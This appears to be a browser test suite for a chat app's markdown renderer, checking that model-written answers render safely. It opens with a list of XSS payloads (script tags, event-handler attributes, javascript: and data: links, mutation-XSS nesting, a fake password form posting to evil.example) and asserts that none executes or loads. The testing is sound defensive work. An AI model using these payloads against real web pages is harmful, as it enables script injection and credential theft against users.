import { expect } from "chai";
import { Stage } from "./browser-page.js";
import { ThreadWriter } from "./thread-writer.js";

/** What hostile or careless models write. None of it may run, load or escape. */
const HOSTILE = [
  "<script>globalThis.hacked = 1</script>",
  '<img src="https://tracker.example/pixel.png" onerror="globalThis.hacked = 2">',
  '<img src=x onerror=globalThis.hacked=3 alt="pic">',
  "![pixel](https://tracker.example/md.png)",
  "[click](javascript:globalThis.hacked=4)",
  "[click](JaVaScRiPt&colon;globalThis.hacked=5)",
  "[data](data:text/html,<script>globalThis.hacked=6</script>)",
  '<a href="vbscript:x">v</a>',
  "<svg onload=globalThis.hacked=7><script>globalThis.hacked=8</script></svg>",
  "<math><mtext><table><mglyph><style><img src=x onerror=globalThis.hacked=9></style></mglyph></table></mtext></math>",
  '<iframe srcdoc="<script>parent.hacked = 10</script>"></iframe>',
  '<form action="https://evil.example"><input name="password"><button>Sign in</button></form>',
  '<style>* { display: none }</style><div style="position:fixed;inset:0">cover</div>',
  '<div id="main" class="card" data-x="1" aria-label="fake">named</div>',
  '<oc-approval-card></oc-approval-card><oc-composer></oc-composer><slot name="x"></slot>',
  '<object data="https://evil.example/x"></object><embed src="https://evil.example/y"><link rel="stylesheet" href="https://evil.example/z"><meta http-equiv="refresh" content="0;url=https://evil.example">',
  '<video src="https://evil.example/v.mp4" autoplay onloadstart="globalThis.hacked=11"></video><audio src="https://evil.example/a.mp3"></audio>',
  '<template shadowrootmode="open"><script>globalThis.hacked=12</script></template>',
  "```<img src=x onerror=globalThis.hacked=13>\n</code></pre><script>globalThis.hacked=14</script>\n```",
  '- item\n\n  ```"onmouseover="globalThis.hacked=15\n  x\n  ```',
  "| <img src=x onerror=globalThis.hacked=16> | [x](javascript:globalThis.hacked=17) |\n|---|---|\n| a | b |",
  '<https://ok.example/"onmouseover=globalThis.hacked=18>',
  '[ok](https://ok.example "title\\" onmouseover=globalThis.hacked=19 x=\\"")',
].join("\n\n");

describe("markdown of an answer", function () {
  this.timeout(60_000);
  const stage = new Stage();
  before(() => stage.start());
  afterEach(() => stage.closePages());
  after(() => stage.stop());

  const answer = (text: string) => {
    const { workspace } = stage.fixture;
    return new ThreadWriter(workspace, workspace.create("Markdown")).ask("Go").say(text).finish();
  };

  it("runs nothing, loads nothing and shows no controls of its own, whatever it says", async () => {
    const { session } = answer(HOSTILE);
    const requests: string[] = [];
    const { page, problems } = await stage.thread(session);
    page.on("request", (request) => requests.push(request.url()));
    await page.reload();
    const markdown = page.locator("oc-markdown");
    await markdown.getByText("named").waitFor();
    for (const block of await markdown.locator("a, div, td, th, li").all()) await block.dispatchEvent("mouseover");
    expect(await page.evaluate("globalThis.hacked")).to.equal(undefined);
    expect(requests.filter((url) => !url.startsWith(stage.fixture.url))).to.deep.equal([]);
    const found = await markdown.evaluate((element) => {
      const root = element.shadowRoot!;
      const all = [...root.querySelectorAll("*")].filter((node) => !node.closest(".table > oc-copy-button"));
      return {
        tags: [...new Set(all.map((node) => node.localName))].sort(),
        attributes: [...new Set(all.flatMap((node) => node.getAttributeNames()))].sort(),
        links: [...root.querySelectorAll("a")].map((a) => [a.getAttribute("href")?.split("/")[2], a.target, a.rel]),
      };
    });
    const allowed = ["a", "br", "code", "div", "em", "li", "oc-code", "oc-copy-button", "p", "strong", "table", "tbody", "td", "th", "thead", "tr", "ul"];
    expect(found.tags.filter((tag) => !allowed.includes(tag))).to.deep.equal([]);
    expect(found.attributes.filter((name) => /^on|style|id|src|name|data/.test(name))).to.deep.equal([]);
    for (const [host, target, rel] of found.links) {
      if (host !== undefined) expect([target, rel]).to.deep.equal(["_blank", "noopener noreferrer nofollow"]);
    }
    expect(problems).to.deep.equal([]);
  });

  it("shows a picture of another site as a link", async () => {
    const { page } = await stage.thread(answer("See ![the chart](https://pictures.example/chart.png).").session);
    const link = page.locator("oc-markdown a.image");
    await link.waitFor();
    expect(await link.getAttribute("href")).to.equal("https://pictures.example/chart.png");
    expect(await page.locator("oc-markdown img").count()).to.equal(0);
  });

  it("keeps the words of a link that may not be opened", async () => {
    const { page } = await stage.thread(answer("Open [the parser](./import/parse.ts) or [this](javascript:alert(1)).").session);
    await page.getByText("Open the parser or this.").waitFor();
    expect(await page.locator("oc-markdown a").count()).to.equal(0);
  });

  it("colours code of known languages with classes, and copies it as it is", async () => {
    const code = 'const a = "x" < 1;\n\n// done';
    const { page, context } = await stage.thread(answer(`\`\`\`ts\n${code}\n\`\`\``).session);
    await context.grantPermissions(["clipboard-read", "clipboard-write"]);
    await page.locator("oc-code .tk-string").waitFor();
    expect(await page.locator("oc-code pre").textContent()).to.equal(code);
    await page.getByRole("button", { name: "Copy code" }).click();
    await page.getByText("Copied", { exact: true }).waitFor({ state: "attached" });
    expect(await page.evaluate(() => navigator.clipboard.readText())).to.equal(code);
  });

  it("copies a table as CSV", async () => {
    const { page, context } = await stage.thread(answer("| Cause | Amount |\n|---|---:|\n| Day, past | **€ 61** |\n| =x | `1` |").session);
    await context.grantPermissions(["clipboard-read", "clipboard-write"]);
    await page.locator("oc-markdown table").hover();
    await page.getByRole("button", { name: "Copy table as CSV" }).click();
    await page.getByText("Copied", { exact: true }).waitFor({ state: "attached" });
    expect(await page.evaluate(() => navigator.clipboard.readText())).to.equal('Cause,Amount\r\n"Day, past",€ 61\r\n\'=x,1');
  });

  it("sets formulas in their own fonts, within the content policy, and shows what it cannot set as it was written", async () => {
    const text = "Roots $\\sqrt{x^2+1}$ cost $5 or $6.\n\n$$\n\\widehat{abc} = \\int_0^1 \\frac{1}{x}\\,dx\n$$\n\nand $\\nosuchcommand$.";
    const { page } = await stage.thread(answer(text).session);
    const math = page.locator("oc-math");
    await math.locator(".katex-display svg").first().waitFor();
    await math.first().locator(".katex-mathml math").waitFor({ state: "attached" });
    expect(await math.count()).to.equal(3);
    await math.nth(2).locator("code").waitFor();
    expect(await math.nth(2).locator("code").textContent()).to.equal("\\nosuchcommand");
    const set = await math.first().evaluate((element) => {
      const root = element.shadowRoot!;
      return {
        line: getComputedStyle(root.querySelector(".katex-html")!).fontFamily,
        hidden: root.querySelector(".katex-mathml")!.getBoundingClientRect().width,
      };
    });
    expect(set.line).to.contain("KaTeX_Main");
    expect(set.hidden).to.be.below(2);
    await page.waitForFunction(() => [...document.fonts].some((font) => font.family.includes("KaTeX") && font.status === "loaded"));
  });

  it("draws a diagram as a picture that knows the theme, with its source at hand", async () => {
    const { page } = await stage.thread(answer("```mermaid\ngraph LR\n  A[Import] -->|day first| B{Date}\n```\n\n```mermaid\nmindmap\n  root\n```").session);
    const picture = page.locator("oc-diagram img");
    await picture.waitFor();
    expect(await picture.count(), "what it does not know stays code").to.equal(1);
    await page.locator("oc-diagram oc-code").last().waitFor();
    expect(await picture.evaluate((image) => (image as HTMLImageElement).decode().then(() => (image as HTMLImageElement).naturalWidth))).to.be.above(100);
    const before = await picture.getAttribute("src");
    await page.emulateMedia({ colorScheme: "dark" });
    await page.waitForFunction((old) => {
      const find = (root: ParentNode): Element | undefined =>
        [...root.querySelectorAll("*")]
          .map((node) => (node.localName === "oc-diagram" ? node : node.shadowRoot ? find(node.shadowRoot) : undefined))
          .find(Boolean);
      return find(document)?.shadowRoot?.querySelector("img")?.src !== old;
    }, before);
    await page.getByRole("button", { name: "Show the source" }).click();
    await page.getByRole("region", { name: "Show the source" }).getByText("A[Import]").waitFor();
  });

  it("aligns columns and marks tasks", async () => {
    const { page } = await stage.thread(answer("| a | b |\n|---|---:|\n| 1 | 2 |\n\n- [x] done\n- [ ] open").session);
    await page.locator("oc-markdown input").first().waitFor();
    expect(
      await page
        .locator("oc-markdown td")
        .nth(1)
        .evaluate((cell) => getComputedStyle(cell).textAlign),
    ).to.match(/end|right/);
    expect(await page.locator("oc-markdown input").evaluateAll((boxes) => boxes.map((box) => (box as HTMLInputElement).checked))).to.deep.equal([true, false]);
  });
});
